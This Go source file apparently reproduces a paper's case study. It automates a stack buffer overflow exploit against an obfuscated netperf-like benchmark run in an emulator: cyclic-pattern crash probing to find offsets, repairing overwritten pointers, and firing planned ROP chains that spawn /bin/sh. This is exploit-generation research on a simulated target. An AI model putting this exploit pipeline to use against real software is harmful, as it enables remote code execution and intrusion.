package experiments

import (
	"bytes"
	"encoding/binary"
	"errors"
	"fmt"

	"github.com/nofreelunch/gadget-planner/internal/benchprog"
	"github.com/nofreelunch/gadget-planner/internal/core"
	"github.com/nofreelunch/gadget-planner/internal/emu"
	"github.com/nofreelunch/gadget-planner/internal/planner"
	"github.com/nofreelunch/gadget-planner/internal/sbf"
)

// NetperfResult is the Section VI-C case study outcome.
type NetperfResult struct {
	// Payloads is the number of verified execve payloads Gadget-Planner
	// found on the obfuscated binary (the paper reports 16).
	Payloads int
	// Offset is the discovered distance from the vulnerable buffer to the
	// saved return address.
	Offset int
	// StackBase is the discovered runtime address of the return-address slot.
	StackBase uint64
	// ExploitWorks reports whether the end-to-end stdin exploit spawned
	// /bin/sh in the emulator.
	ExploitWorks bool
	// ChainExample renders one used chain (Fig. 8 analogue).
	ChainExample string
	// ExploitStdin is the raw request that triggers the shell.
	ExploitStdin []byte
}

// The cyclic probe pattern is alphanumeric (like classic exploit-dev
// patterns): the victim's loop bound lives between the buffer and the
// return address and is trampled during the copy, and NUL bytes in a naive
// pattern would shrink it and stop the overflow early. Each 4-byte unit
// encodes its own offset.
const cyclicLen = 512

func cyclicPattern() []byte {
	out := make([]byte, cyclicLen)
	for k := 0; k*4 < cyclicLen; k++ {
		out[k*4] = byte('A' + k%26)
		out[k*4+1] = byte('a' + (k/26)%26)
		out[k*4+2] = byte('0' + k%10)
		out[k*4+3] = '$'
	}
	return out
}

// cyclicFind decodes a pattern qword back to its byte offset.
func cyclicFind(v uint64) (int, bool) {
	b := make([]byte, 8)
	binary.LittleEndian.PutUint64(b, v)
	if b[3] != '$' || b[7] != '$' {
		return 0, false
	}
	if b[0] < 'A' || b[0] > 'Z' || b[1] < 'a' || b[1] > 'z' {
		return 0, false
	}
	k := int(b[0]-'A') + 26*int(b[1]-'a')
	off := 4 * k
	if off < 0 || off >= cyclicLen {
		return 0, false
	}
	return off, true
}

// Netperf runs the full case study: compile the obfuscated vulnerable tool,
// discover the overflow geometry by iterative crash analysis, plan payloads
// for the discovered stack address, and fire the exploit through stdin.
//
// Discovery mirrors real exploit development against this bug class:
//
//  1. A cyclic probe crashes when the copy loop tramples its own source
//     pointer; the faulting value reveals that slot's offset. It is
//     "repaired" with the known address of the request buffer (a global;
//     the threat model gives the attacker addresses).
//  2. The loop bound is also trampled; probing each earlier slot with a
//     small length finds the slot that cleanly stops the copy — and the
//     same run's controlled crash reveals the return-address offset and
//     its runtime stack address.
//  3. Gadget-Planner payloads are concretized for that exact address and
//     fired through the program's real input path.
func Netperf(opts Options) (*NetperfResult, error) {
	opts = opts.withDefaults()
	prog := benchprog.Netperf()
	bin, err := opts.build(prog, Configs()[1]) // LLVM-Obf, shared with Table7
	if err != nil {
		return nil, err
	}
	reqbuf, ok := bin.Symbol("reqbuf")
	if !ok {
		return nil, fmt.Errorf("experiments: reqbuf symbol missing")
	}
	srcPtr := reqbuf + 3 // option payload's address inside the request

	// Step 1: locate the trampled source-pointer slot. The copy corrupts it
	// byte-wise, so the bare probe faults quickly at a garbage address;
	// repairing the right slot with the request buffer's (known) address
	// lets the copy run away up the stack until it hits the stack guard —
	// the signature of a successful repair.
	ptrSlot := -1
	for c := 0; c < 128 && ptrSlot < 0; c += 8 {
		kind, _, _, faultAddr := crashProbe(bin, map[int]uint64{c: srcPtr})
		if kind == crashOther && faultAddr >= 0x7FC0_0000 {
			ptrSlot = c
		}
	}
	if ptrSlot < 0 {
		return nil, fmt.Errorf("experiments: source-pointer slot not found")
	}

	// Step 2: locate the loop-bound slot and the return address: a small
	// repaired length stops the copy cleanly, and the victim then returns
	// into the cyclic pattern, revealing the return-address offset and its
	// runtime stack address.
	var offset, nSlot int
	var retSlotAddr uint64
	found := false
	for c := 0; c < ptrSlot; c += 8 {
		kind, at, rsp, _ := crashProbe(bin, map[int]uint64{ptrSlot: srcPtr, c: 96})
		if kind == crashExec {
			nSlot, offset, retSlotAddr = c, at, rsp-8
			found = true
			break
		}
	}
	if !found {
		return nil, fmt.Errorf("experiments: loop-bound slot not found")
	}
	res := &NetperfResult{Offset: offset, StackBase: retSlotAddr}

	// Step 3: plan payloads concretized for the discovered address.
	a := core.Analyze(bin, core.Config{PayloadBase: retSlotAddr, Planner: opts.Planner, Store: opts.Store})
	atk := a.FindPayloads(planner.ExecveGoal())
	res.Payloads = len(atk.Payloads)
	if res.Payloads == 0 {
		return res, nil
	}

	// Step 4: fire the first comma-free payload through the real input
	// path (break_args writes a NUL at the first ',' it scans).
	for i, pl := range atk.Payloads {
		if bytes.IndexByte(pl.Bytes, ',') >= 0 {
			continue
		}
		raw := make([]byte, offset+len(pl.Bytes))
		for j := range raw[:offset] {
			raw[j] = 'A'
		}
		binary.LittleEndian.PutUint64(raw[ptrSlot:], srcPtr)
		binary.LittleEndian.PutUint64(raw[nSlot:], uint64(len(raw)))
		copy(raw[offset:], pl.Bytes)
		stdin := benchprog.NetperfRequest(raw)
		if exploitFires(bin, stdin) {
			res.ExploitWorks = true
			res.ExploitStdin = stdin
			res.ChainExample = renderChain(atk.Plans[i])
			break
		}
	}
	return res, nil
}

// crash kinds from one probe run.
type crashKind int

const (
	crashNone  crashKind = iota
	crashExec            // control reached a pattern word: at = offset, rsp meaningful
	crashOther           // some other fault; the faulting address is reported
)

// crashProbe runs the victim on the cyclic pattern (with repairs applied)
// and classifies the crash.
func crashProbe(bin *sbf.Binary, repairs map[int]uint64) (crashKind, int, uint64, uint64) {
	pattern := cyclicPattern()
	for off, v := range repairs {
		binary.LittleEndian.PutUint64(pattern[off:], v)
	}

	m, err := emu.Load(bin, benchprog.NetperfRequest(pattern))
	if err != nil {
		return crashOther, 0, 0, 0
	}
	m.SetupStack(0x7FC0_0000, 0x400000)

	for steps := 0; steps < 50_000_000; steps++ {
		exit, err := m.Step()
		if exit {
			return crashNone, 0, 0, 0
		}
		if err == nil {
			continue
		}
		if off, ok := cyclicFind(m.RIP); ok {
			return crashExec, off, m.Regs[m.SP()], 0
		}
		var mf *emu.MemFault
		if errors.As(err, &mf) {
			return crashOther, 0, 0, mf.Addr
		}
		return crashOther, 0, 0, 0
	}
	return crashNone, 0, 0, 0
}

// exploitFires runs the victim with the crafted stdin and reports whether
// execve("/bin/sh") happened.
func exploitFires(bin *sbf.Binary, stdin []byte) bool {
	m, err := emu.Load(bin, stdin)
	if err != nil {
		return false
	}
	m.SetupStack(0x7FC0_0000, 0x400000)
	_ = m.Run(10_000_000)
	ev := m.OS.EventFor(emu.SysExecve)
	return ev != nil && ev.Path == "/bin/sh"
}

func renderChain(p *planner.Plan) string {
	var sb bytes.Buffer
	for i, g := range p.Chain() {
		fmt.Fprintf(&sb, "Gadget %d @ %#x:\n", i+1, g.Location)
		for _, st := range g.Steps {
			fmt.Fprintf(&sb, "    %s\n", st.Inst)
		}
	}
	return sb.String()
}

// RenderNetperf prints the case study summary.
func RenderNetperf(r *NetperfResult) string {
	status := "EXPLOIT FAILED"
	if r.ExploitWorks {
		status = "shell spawned: execve(\"/bin/sh\") observed in the emulator"
	}
	return fmt.Sprintf(
		"netperf-sim (LLVM-Obf): %d verified execve payloads\n"+
			"overflow offset %d bytes; return slot at %#x\n%s\n\nexample chain:\n%s",
		r.Payloads, r.Offset, r.StackBase, status, r.ChainExample)
}
